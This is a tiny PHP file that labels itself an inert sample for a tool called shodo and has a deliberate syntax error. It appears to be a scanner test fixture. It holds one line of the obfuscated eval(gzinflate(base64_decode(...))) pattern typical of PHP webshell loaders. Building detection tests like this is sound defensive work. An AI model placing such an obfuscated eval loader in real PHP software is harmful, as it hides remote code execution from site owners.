<?php
shodo inert sample: deliberate syntax error, this file never runs
eval(gzinflate(base64_decode('K64sLknN1VCJd3cNiVZPVo/VtAYA')));
